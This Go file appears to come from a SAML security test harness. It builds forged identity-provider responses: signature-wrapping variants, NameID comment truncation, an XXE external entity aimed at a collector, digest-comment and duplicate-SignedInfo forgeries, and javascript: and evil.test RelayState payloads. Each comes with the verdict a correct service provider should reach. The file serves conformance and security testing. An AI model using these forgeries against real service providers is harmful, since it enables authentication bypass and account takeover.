package idp

import (
	"fmt"
	"strings"
	"time"

	"github.com/beevik/etree"
)

// Expect is what a correct service provider does with a response.
type Expect string

const (
	// Accept: the genuine person is signed in.
	Accept Expect = "accept"
	// Refuse: nobody is signed in.
	Refuse Expect = "refuse"
	// GenuineOnly: refusing is right, and so is signing in the person whom the
	// signature covers; anybody else is a break-in.
	GenuineOnly Expect = "genuine-only"
)

// Recipe is one way to answer an AuthnRequest.
type Recipe struct {
	ID       string // D-01 …, may occur once per base and variant
	Name     string // unique
	Base     Base   // which parts the genuine message has signed
	Expect   Expect
	Standard string // why

	// Apply writes the message.
	Apply func(*Forge) []byte

	// How it is delivered, where that matters.
	NeedsOther  bool   // Forge.Other must be set
	Unsolicited bool   // sent without a request
	Replay      bool   // the accepted message is posted again, from a clean browser
	Rewrap      bool   // the replay has its assertion in a response with another ID
	RelayState  string // sent instead of the service provider's
}

// xsw is the oracle's source for signature wrapping.
const xsw = "saml-core §5.4; Somorovsky et al. 2012"

// Recipes returns every recipe, the three bases first: they must sign the
// genuine person in, or no refusal of the others means anything.
func Recipes() []Recipe {
	var all []Recipe
	for _, group := range [][]Recipe{baseRecipes(), wrappingRecipes(), textRecipes(), signatureRecipes(), semanticRecipes(), deliveryRecipes(), attributeRecipes()} {
		all = append(all, group...)
	}
	return all
}

// RecipeNamed returns the recipe of a name.
func RecipeNamed(name string) (Recipe, error) {
	for _, r := range Recipes() {
		if r.Name == name {
			return r, nil
		}
	}
	return Recipe{}, fmt.Errorf("there is no recipe named %q", name)
}

func genuineMessage(f *Forge) []byte { return f.Params().XML() }

func baseRecipes() []Recipe {
	return []Recipe{
		{ID: "D-00", Name: "genuine, assertion signed", Base: SignedAssertion, Expect: Accept, Standard: "saml-profiles §4.1.4", Apply: genuineMessage},
		{ID: "D-00", Name: "genuine, response signed", Base: SignedResponse, Expect: Accept, Standard: "saml-profiles §4.1.4", Apply: genuineMessage},
		{ID: "D-00", Name: "genuine, both signed", Base: SignedBoth, Expect: Accept, Standard: "saml-profiles §4.1.4", Apply: genuineMessage},
	}
}

// wrappingRecipes move the signed element aside and put an evil one where the
// service provider looks.
func wrappingRecipes() []Recipe {
	wrap := func(id, name string, base Base, build func(*Forge, document)) Recipe {
		return Recipe{ID: id, Name: name, Base: base, Expect: GenuineOnly, Standard: xsw, Apply: func(f *Forge) []byte {
			d := f.genuine()
			build(f, d)
			return d.bytes()
		}}
	}
	// evilResponse makes the outer response evil and returns the genuine one
	// without its signature.
	evilResponse := func(f *Forge, d document) *etree.Element {
		g := unsigned(d.response())
		replace(d.assertion(), f.evilAssertion(f.evilID("A")))
		setID(d.response(), f.evilID("R"))
		return g
	}
	// evilInPlace makes the assertion itself evil, under id and with its
	// signature kept, and returns the genuine one without its signature.
	evilInPlace := func(f *Forge, d document, id string) *etree.Element {
		a := d.assertion()
		g := unsigned(a)
		become(a, f.evilAssertion(id))
		setID(a, id)
		return g
	}
	extensions := func(f *Forge, d document, id string) {
		ext := etree.NewElement("samlp:Extensions")
		ext.AddChild(f.evilAssertion(id))
		insertBefore(child(d.response(), "Status"), ext) // its place in the schema
	}
	return []Recipe{
		wrap("D-01", "XSW1: genuine response inside the signature of an evil one", SignedResponse, func(f *Forge, d document) {
			g := evilResponse(f, d)
			signatureOf(d.response()).AddChild(g)
		}),
		wrap("D-02", "XSW2: genuine response before the signature of an evil one", SignedResponse, func(f *Forge, d document) {
			g := evilResponse(f, d)
			insertBefore(signatureOf(d.response()), g)
		}),
		wrap("D-03", "XSW3: evil assertion before the genuine one", SignedAssertion, func(f *Forge, d document) {
			insertBefore(d.assertion(), f.evilAssertion(f.evilID("A")))
		}),
		wrap("D-04", "XSW4: genuine assertion inside an evil one", SignedAssertion, func(f *Forge, d document) {
			g, e := d.assertion(), f.evilAssertion(f.evilID("A"))
			d.response().AddChild(e)
			e.AddChild(g) // moves it
		}),
		wrap("D-05", "XSW5: evil assertion keeps the signature, genuine copy at the end", SignedAssertion, func(f *Forge, d document) {
			d.response().AddChild(evilInPlace(f, d, f.evilID("A")))
		}),
		wrap("D-06", "XSW6: evil assertion keeps the signature, genuine copy inside it", SignedAssertion, func(f *Forge, d document) {
			g := evilInPlace(f, d, f.evilID("A"))
			signatureOf(d.assertion()).AddChild(g)
		}),
		wrap("D-07", "XSW7: evil assertion with the same ID in Extensions", SignedAssertion, func(f *Forge, d document) {
			extensions(f, d, f.Params().AssertionID)
		}),
		wrap("D-08", "XSW7b: evil assertion with another ID in Extensions", SignedAssertion, func(f *Forge, d document) {
			extensions(f, d, f.evilID("A"))
		}),
		wrap("D-09", "XSW8: genuine assertion in an Object of the signature, same ID", SignedAssertion, func(f *Forge, d document) {
			g := evilInPlace(f, d, f.Params().AssertionID)
			signatureOf(d.assertion()).AddChild(object(g))
		}),
		wrap("D-09", "XSW8b: genuine assertion in an Object of the signature, another ID", SignedAssertion, func(f *Forge, d document) {
			g := evilInPlace(f, d, f.evilID("A"))
			signatureOf(d.assertion()).AddChild(object(g))
		}),
		wrap("D-10", "XSW10: signature copied to the response, assertion signed", SignedAssertion, xsw10),
		wrap("D-10", "XSW10: signature copied to the response, both signed", SignedBoth, xsw10),
		wrap("D-16", "junk assertion inside the assertion's signature", SignedAssertion, func(f *Forge, d document) {
			signatureOf(d.assertion()).AddChild(object(f.evilAssertion(f.evilID("A"))))
		}),
		wrap("D-16", "junk assertion inside the response's signature", SignedResponse, func(f *Forge, d document) {
			signatureOf(d.response()).AddChild(object(f.evilAssertion(f.evilID("A"))))
		}),
		wrap("D-16", "junk assertion bare inside the response's signature", SignedResponse, func(f *Forge, d document) {
			signatureOf(d.response()).AddChild(f.evilAssertion(f.evilID("A")))
		}),
		wrap("D-17", "genuine assertion in StatusDetail, evil one in its place", SignedAssertion, func(f *Forge, d document) {
			g := d.assertion()
			replace(g, f.evilAssertion(f.evilID("A")))
			detail := etree.NewElement("samlp:StatusDetail")
			detail.AddChild(g)
			child(d.response(), "Status").AddChild(detail)
		}),
	}
}

func xsw10(f *Forge, d document) {
	if sig := signatureOf(d.response()); sig != nil {
		d.response().RemoveChild(sig)
	}
	g := d.assertion()
	top := signatureOf(g).Copy()
	top.AddChild(object(g.Copy()))
	outer := f.evilAssertion(f.Params().AssertionID + "ffff")
	replace(g, outer)
	insertBefore(child(d.response(), "Status"), top)
}

// textRecipes play on what a text, an entity or a digest is read as.
func textRecipes() []Recipe {
	const truncation = "CVE-2017-11427 family (Kelby Ludwig, 2018)"
	split := func(id, name, mark string, base Base) Recipe {
		return Recipe{ID: id, Name: name, Base: base, Expect: GenuineOnly, Standard: truncation, Apply: func(f *Forge) []byte { return f.split(mark) }}
	}
	const comment = "<!---->" + evilTail
	const cdata = "<![CDATA[" + evilTail + "]]>"
	return []Recipe{
		split("D-11", "comment in the address, assertion signed", comment, SignedAssertion),
		split("D-11", "comment in the address, response signed", comment, SignedResponse),
		split("D-12", "CDATA in the address", cdata, SignedAssertion),
		{ID: "D-13", Name: "DOCTYPE with an internal entity", Base: SignedAssertion, Expect: Refuse, Standard: "CWE-611; saml-sec-consider", Apply: func(f *Forge) []byte {
			return withEntity(f, fmt.Sprintf("<!ENTITY x %q>", text(f.Genuine.Email)))
		}},
		{ID: "D-13", Name: "DOCTYPE with an external entity", Base: SignedAssertion, Expect: Refuse, Standard: "CWE-611", Apply: func(f *Forge) []byte {
			collector := f.CollectorURL
			if collector == "" {
				collector = f.IdP.Origin() + "/collect"
			}
			return withEntity(f, fmt.Sprintf("<!ENTITY x SYSTEM %q>", attrText(collector)))
		}},
		{ID: "D-13", Name: "DOCTYPE without entities", Base: SignedAssertion, Expect: Refuse, Standard: "CWE-611", Apply: func(f *Forge) []byte {
			return append([]byte("<!DOCTYPE r>"), f.Params().XML()...)
		}},
		{ID: "D-14", Name: "digest in a comment, assertion signed", Base: SignedAssertion, Expect: Refuse, Standard: "CVE-2025-29775", Apply: digestComment},
		{ID: "D-14", Name: "digest in a comment, response signed", Base: SignedResponse, Expect: Refuse, Standard: "CVE-2025-29775", Apply: digestComment},
		{ID: "D-15", Name: "second SignedInfo before the genuine one", Base: SignedAssertion, Expect: Refuse, Standard: "CVE-2025-29774", Apply: twoSignedInfos(true)},
		{ID: "D-15", Name: "second SignedInfo after the genuine one", Base: SignedAssertion, Expect: Refuse, Standard: "CVE-2025-29774", Apply: twoSignedInfos(false)},
		{ID: "D-15", Name: "second SignedInfo before the genuine one, response signed", Base: SignedResponse, Expect: Refuse, Standard: "CVE-2025-29774", Apply: twoSignedInfos(true)},
		{ID: "D-15", Name: "second SignedInfo after the genuine one, response signed", Base: SignedResponse, Expect: Refuse, Standard: "CVE-2025-29774", Apply: twoSignedInfos(false)},
	}
}

// withEntity declares the entity x, which stands for the genuine address, and
// uses it in the NameID: whoever resolves it finds the signature in order.
func withEntity(f *Forge, declaration string) []byte {
	signed := string(f.Params().XML())
	name := text(f.Genuine.Email) + "</saml:NameID>"
	return []byte("<!DOCTYPE r [" + declaration + "]>" + strings.Replace(signed, name, "&x;</saml:NameID>", 1))
}

// forgedContent returns the genuine document with evil content under the kept
// signature, and the digest that this content really has.
func forgedContent(f *Forge) (d document, sig *etree.Element, evilDigest string) {
	d = f.genuine()
	evil := f.evilParams()
	if f.Base == SignedResponse {
		evilDigest = evil.digest(evil.response("", evil.assertion("")))
		replace(d.assertion(), f.evilAssertion(evil.AssertionID))
	} else {
		evilDigest = evil.digest(evil.assertion(""))
		become(d.assertion(), f.evilAssertion(evil.AssertionID))
	}
	return d, signatureOf(d.signed(f.Base)), evilDigest
}

// digestComment puts the evil digest into a comment before the genuine digest.
// Canonical XML drops the comment, so SignedInfo still verifies.
func digestComment(f *Forge) []byte {
	d, sig, evilDigest := forgedContent(f)
	value := within(sig, "DigestValue")
	value.InsertChildAt(0, etree.NewComment(evilDigest))
	return d.bytes()
}

func twoSignedInfos(first bool) func(*Forge) []byte {
	return func(f *Forge) []byte {
		d, sig, evilDigest := forgedContent(f)
		genuine := child(sig, "SignedInfo")
		second := genuine.Copy()
		within(second, "DigestValue").SetText(evilDigest)
		at := genuine.Index()
		if !first {
			at++
		}
		sig.InsertChildAt(at, second)
		return d.bytes()
	}
}

// signatureRecipes leave the signature out, weaken it, or use another key.
func signatureRecipes() []Recipe {
	const needed = "saml-core §5; ASVS 6.8.2"
	edit := func(f *Forge) []byte {
		d := f.genuine()
		replace(within(d.assertion(), "NameID"), within(f.evilAssertion(""), "NameID"))
		return d.bytes()
	}
	evilUnsigned := func(empty bool) func(*Forge) []byte {
		return func(f *Forge) []byte {
			d, sig, _ := forgedContent(f)
			if empty {
				replace(sig, etree.NewElement("ds:Signature"))
				sig = signatureOf(d.signed(f.Base))
				sig.CreateAttr("xmlns:ds", nsSignature)
			} else {
				sig.Parent().RemoveChild(sig)
			}
			return d.bytes()
		}
	}
	const ownKey = "ASVS 6.8.1; saml-metadata §2.4.1.1"
	return []Recipe{
		{ID: "D-18", Name: "plain edit, assertion signed", Base: SignedAssertion, Expect: Refuse, Standard: needed, Apply: edit},
		{ID: "D-18", Name: "plain edit, response signed", Base: SignedResponse, Expect: Refuse, Standard: needed, Apply: edit},
		{ID: "D-19", Name: "no signature on the assertion", Base: SignedAssertion, Expect: Refuse, Standard: needed, Apply: evilUnsigned(false)},
		{ID: "D-19", Name: "no signature on the response", Base: SignedResponse, Expect: Refuse, Standard: needed, Apply: evilUnsigned(false)},
		{ID: "D-19", Name: "empty signature element", Base: SignedAssertion, Expect: Refuse, Standard: needed, Apply: evilUnsigned(true)},
		{ID: "D-20", Name: "rsa-sha1", Base: SignedAssertion, Expect: GenuineOnly, Standard: "policy; RFC 9231 §2.3", Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) { p.SHA1 = true })
		}},
		{ID: "D-21", Name: "signed with the key of another organization's identity provider", Base: SignedAssertion, Expect: Refuse, Standard: ownKey, NeedsOther: true, Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) { p.Person, p.Key, p.Certificate = f.Evil, f.Other.key, f.Other.cert })
		}},
		{ID: "D-21", Name: "signed with a key that nobody registered", Base: SignedAssertion, Expect: Refuse, Standard: ownKey, Apply: func(f *Forge) []byte {
			stranger := strangerKey()
			return f.changed(func(p *Params) { p.Person, p.Key, p.Certificate = f.Evil, stranger.key, stranger.cert })
		}},
		{ID: "D-29", Name: "issuer of another identity provider", Base: SignedAssertion, Expect: Refuse, Standard: "saml-profiles §4.1.4.2", Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) {
				p.Issuer = f.otherEntity()
				p.AssertionIssuer = p.Issuer
			})
		}},
		{ID: "D-29", Name: "issuer of another identity provider, in the assertion only", Base: SignedAssertion, Expect: Refuse, Standard: "saml-profiles §4.1.4.2", Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) { p.AssertionIssuer = f.otherEntity() })
		}},
		{ID: "D-32", Name: "another organization's identity provider answers for this one", Base: SignedAssertion, Expect: Refuse, Standard: ownKey, NeedsOther: true, Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) {
				p.Person, p.Key, p.Certificate = f.Evil, f.Other.key, f.Other.cert
				p.Issuer, p.AssertionIssuer = f.Other.entityID, f.Other.entityID
			})
		}},
	}
}

// otherEntity is the entity id of some other identity provider.
func (f *Forge) otherEntity() string {
	if f.Other != nil {
		return f.Other.entityID
	}
	return "https://idp.evil.test/metadata"
}

// strangerKey makes a key that no deployment has ever seen.
func strangerKey() *IdP {
	keyPEM, certPEM, err := NewKey()
	if err != nil {
		panic("idp: " + err.Error())
	}
	key, _ := ParseKey(keyPEM)
	cert, _ := ParseCertificate(certPEM)
	return &IdP{key: key, cert: cert}
}

// semanticRecipes are validly signed by the right key; one thing is wrong.
func semanticRecipes() []Recipe {
	field := func(id, name string, expect Expect, standard string, change func(*Params)) Recipe {
		return Recipe{ID: id, Name: name, Base: SignedAssertion, Expect: expect, Standard: standard, Apply: func(f *Forge) []byte { return f.changed(change) }}
	}
	onBoth := func(r Recipe) Recipe { r.Base = SignedBoth; return r }
	const elsewhere = "https://another-product.test/saml/acs"
	return []Recipe{
		field("D-22", "audience of another service provider", Refuse, "saml-core §2.5.1.4", func(p *Params) { p.Audience = "https://another-product.test/saml" }),
		field("D-23", "no AudienceRestriction", GenuineOnly, "policy; saml-profiles §4.1.4.2", func(p *Params) { p.Audience = "" }),
		field("D-24", "recipient of another service provider", Refuse, "saml-profiles §4.1.4.3", func(p *Params) { p.Recipient = elsewhere }),
		onBoth(field("D-25", "destination of another service provider", Refuse, "saml-bindings §3.5.5.2", func(p *Params) { p.Destination = elsewhere })),
		field("D-26", "conditions over for an hour", Refuse, "saml-core §2.5.1.2", func(p *Params) {
			p.NotBefore, p.NotOnOrAfter = p.NotBefore.Add(-2*time.Hour), p.NotBefore.Add(-time.Hour)
		}),
		field("D-26", "everything over for an hour", Refuse, "saml-core §2.5.1.2", func(p *Params) {
			for _, t := range []*time.Time{&p.IssueInstant, &p.NotBefore, &p.NotOnOrAfter, &p.ConfirmNotOnOrAfter} {
				*t = t.Add(-time.Hour - assertionLife)
			}
		}),
		field("D-26", "subject confirmation over for an hour", Refuse, "saml-profiles §4.1.4.3", func(p *Params) {
			p.ConfirmNotOnOrAfter = p.ConfirmNotOnOrAfter.Add(-time.Hour - assertionLife)
		}),
		field("D-27", "not valid for another hour", Refuse, "saml-core §2.5.1.2", func(p *Params) {
			p.NotBefore, p.NotOnOrAfter = p.NotBefore.Add(time.Hour), p.NotOnOrAfter.Add(time.Hour)
		}),
		// Far outside what clocks differ by (C-7), and far inside half an hour.
		field("D-26", "over for a quarter of an hour", Refuse, "saml-core §2.5.1.2; ASVS 9.2.1", func(p *Params) {
			for _, t := range []*time.Time{&p.IssueInstant, &p.NotBefore, &p.NotOnOrAfter, &p.ConfirmNotOnOrAfter} {
				*t = t.Add(-15*time.Minute - assertionLife)
			}
		}),
		field("D-27", "not valid for another quarter of an hour", Refuse, "saml-core §2.5.1.2; ASVS 9.2.1", func(p *Params) {
			p.NotBefore, p.NotOnOrAfter = p.NotBefore.Add(15*time.Minute), p.NotOnOrAfter.Add(15*time.Minute)
		}),
		field("D-28", "valid in a minute: clock skew", GenuineOnly, "C-7: sixty seconds are commonly allowed", func(p *Params) {
			p.NotBefore = p.IssueInstant.Add(time.Minute)
		}),
		field("D-30", "answer to somebody else's request", Refuse, "saml-profiles §4.1.4.3", func(p *Params) {
			p.InResponseTo = newID()
			p.ConfirmInResponseTo = p.InResponseTo
		}),
		field("D-30", "answer to somebody else's request, in the subject confirmation only", Refuse, "saml-profiles §4.1.4.3", func(p *Params) {
			p.ConfirmInResponseTo = newID()
		}),
		field("D-38", "subject confirmation that is not bearer", GenuineOnly, "C-38", func(p *Params) { p.ConfirmMethod = methodSenderVouch }),
		field("D-38", "issued a day ago, conditions fresh", GenuineOnly, "C-38", func(p *Params) { p.IssueInstant = p.IssueInstant.AddDate(0, 0, -1) }),
		field("D-39", "status of a failed authentication", Refuse, "saml-core §3.2.2.2", func(p *Params) { p.Status, p.SubStatus = StatusResponder, StatusAuthnFailed }),
		// Both are signed: nobody but the provider has put the one under the other.
		onBoth(field("D-39", "a signed assertion under the status of a failed authentication", Refuse, "saml-core §3.2.2.2; saml-profiles §4.1.4.2", func(p *Params) {
			p.Status, p.SubStatus, p.AssertAnyway = StatusResponder, StatusAuthnFailed, true
		})),
	}
}

// deliveryRecipes are genuine messages, delivered wrongly.
func deliveryRecipes() []Recipe {
	relay := func(name, value string) Recipe {
		return Recipe{ID: "D-33", Name: name, Base: SignedAssertion, Expect: GenuineOnly, Standard: "ASVS 3.7.2; saml-bindings §3.4.3", RelayState: value, Apply: genuineMessage}
	}
	return []Recipe{
		{ID: "D-30", Name: "answer to no request at all", Base: SignedAssertion, Expect: GenuineOnly, Standard: "saml-profiles §4.1.5; C-8", Unsolicited: true, Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) { p.InResponseTo, p.ConfirmInResponseTo = "", "" })
		}},
		{ID: "D-31", Name: "the same response twice", Base: SignedAssertion, Expect: Refuse, Standard: "saml-profiles §4.1.4.5; ASVS 6.8.3", Replay: true, Apply: genuineMessage},
		{ID: "D-31", Name: "the same assertion in another response", Base: SignedAssertion, Expect: Refuse, Standard: "saml-profiles §4.1.4.5; ASVS 6.8.3", Replay: true, Rewrap: true, Apply: genuineMessage},
		relay("RelayState is a foreign URL", "https://evil.test/landing"),
		relay("RelayState is a script", "javascript:alert(document.domain)"),
		relay("RelayState is a scheme-relative URL", "//evil.test/landing"),
		relay("RelayState is longer than 80 bytes", "https://evil.test/"+strings.Repeat("a", 200)),
	}
}

// attributeRecipes are honest messages with unusual contents.
func attributeRecipes() []Recipe {
	person := func(id, name string, expect Expect, change func(*Person)) Recipe {
		return Recipe{ID: id, Name: name, Base: SignedAssertion, Expect: expect, Standard: "saml-core §2.7.3; robustness", Apply: func(f *Forge) []byte {
			return f.changed(func(p *Params) { change(&p.Person) })
		}}
	}
	return []Recipe{
		person("D-34", "persistent NameID with an e-mail attribute", Accept, func(p *Person) {
			p.NameID, p.NameIDFormat = "9f3a0c7e-persistent", NameIDPersistent
		}),
		person("D-34", "persistent NameID without an e-mail attribute", GenuineOnly, func(p *Person) {
			p.NameID, p.NameIDFormat, p.HideEmail = "9f3a0c7e-persistent", NameIDPersistent, true
		}),
		person("D-34", "transient NameID without an e-mail attribute", GenuineOnly, func(p *Person) {
			p.NameID, p.NameIDFormat, p.HideEmail = newID(), NameIDTransient, true
		}),
		person("D-35", "many groups, empty values, names in other scripts", Accept, func(p *Person) {
			p.GivenName, p.FamilyName = "Zoë Łucja", "O’Brien 王 <&>"
			p.Groups = nil
			for i := range 200 {
				p.Groups = append(p.Groups, fmt.Sprintf("group %d", i))
			}
			p.Attributes = map[string][]string{"department": {""}, "locations": {"Zürich", "北京"}}
		}),
	}
}
